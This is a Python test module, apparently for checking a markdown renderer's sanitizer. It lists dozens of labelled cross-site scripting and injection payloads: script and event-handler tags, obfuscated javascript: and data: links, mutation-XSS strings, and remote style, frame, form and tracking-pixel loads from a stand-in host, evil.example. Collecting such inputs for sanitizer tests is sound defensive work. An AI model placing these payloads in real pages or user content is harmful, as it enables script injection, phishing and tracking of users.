"""Texts that would run, style, frame, lead astray or load something where they are trusted."""

import markdown

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script from elsewhere": "<script src=https://evil.example/x.js></script>",
    "script that is not closed": "<script >alert(1)//",
    "event handler": "<img src=x onerror=alert(1)>",
    "handler without a space": "<img/src=x/onerror=alert(1)>",
    "handler of a plain element": "<b onmouseover=alert(1)>x</b>",
    "handler that is focused": "<input autofocus onfocus=alert(1)>",
    "details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "animation": "<p style='animation: x' onanimationstart=alert(1)>x</p>",
    "svg": "<svg onload=alert(1)>",
    "svg with a script": "<svg><script>alert(1)</script></svg>",
    "svg that animates": "<svg><a><animate attributeName=href values=javascript:alert(1) />"
    "<text y=20>x</text></a></svg>",
    "svg that uses": "<svg><use href='https://evil.example/x.svg#x'></use></svg>",
    "math": "<math href=javascript:alert(1)>x</math>",
    "style": "<style>* { display: none }</style>",
    "style that is imported": "<style>@import 'https://evil.example/x.css';</style>",
    "style of an element": "<p style=\"background: url('https://evil.example/x.png')\">x</p>",
    "link to a style": "<link rel=stylesheet href=https://evil.example/x.css>",
    "iframe": "<iframe src='https://evil.example/'></iframe>",
    "iframe with a document": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data='javascript:alert(1)'></object>",
    "embed": "<embed src='https://evil.example/x.swf'>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "base": "<base href='https://evil.example/'>",
    "form": "<form action='https://evil.example/'><button>Sign in</button></form>",
    "button that acts": "<button form=x formaction='https://evil.example/'>x</button>",
    "tracking picture": "![picture](https://evil.example/pixel.png)",
    "tracking picture in html": "<img src='https://evil.example/pixel.png'>",
    "picture that is chosen": "<picture><source srcset='https://evil.example/x.png'></picture>",
    "video": "<video poster='https://evil.example/x.png' src='https://evil.example/x'></video>",
    "table": "<table background='https://evil.example/x.png'><tr><td>x</td></tr></table>",
    "link that tells": "<a href='https://example.org/' ping='https://evil.example/'>x</a>",
    "htmx": "<div hx-get='/x' hx-trigger='load'>x</div>",
    "javascript": "[click](javascript:alert(1))",
    "javascript in other letters": "[click](JaVaScRiPt:alert(1))",
    "javascript with an entity": "[click](java&#115;cript:alert(1))",
    "javascript with a line break": "<a href='java\nscript:alert(1)'>x</a>",
    "javascript after a control": "[click](<\x01javascript:alert(1)>)",
    "javascript after white space": "[click](<  javascript:alert(1)>)",
    "javascript with a host": "[click](javascript://example.org/%0aalert(1))",
    "javascript by reference": "[click][1]\n\n[1]: javascript:alert(1)",
    "javascript by address": "<javascript:alert(1)>",
    "javascript as a picture": "![picture](javascript:alert(1))",
    "javascript in html": "<a href='&#x6a;avascript:alert(1)'>x</a>",
    "data": "[click](data:text/html,<script>alert(1)</script>)",
    "data in base64": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript": "[click](vbscript:msgbox)",
    "title that ends": '[a](https://example.org/ "x\\" onclick=alert(1)") <b onclick=alert(1)>x',
    "code that ends": "```<script>\n<script>alert(1)</script>\n```\n<script>alert(1)</script>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1"
    " onerror=alert(1)&gt;'>",
    "mutation of svg": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "mutation of noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "template": "<template><script>alert(1)</script></template><img src=x onerror=alert(1)>",
    "end of what is around": "</div></section></main><script>alert(1)</script>",
    "end of an attribute": "'\"><script>alert(1)</script>",
    "bidi": "[user\u202egpj.exe](https://example.org/) \u2066\u200b",
    "bidi as an entity": "user&#8238;gpj.exe &#x2066;",
}
# What only a reader of [[…]] could be led to.
REFERENCES = {
    "javascript": "[[javascript:alert(1)]]",
    "javascript with words": "[[javascript:alert(1)|click]]",
    "data": "[[data:text/html,<script>alert(1)</script>]]",
    "markup": "[[<img src=x onerror=alert(1)>|<script>alert(1)</script>]]",
    "wiki": '[[wiki:"><script>alert(1)</script>]] [[wiki:javascript:alert(1)]]',
    "in a link": "[[[javascript:alert(1)]](javascript:alert(1))",
}


def trusted(text: str) -> str:
    """The HTML that a renderer makes of it who trusts the text."""
    return markdown.markdown(text, extensions=["fenced_code"])
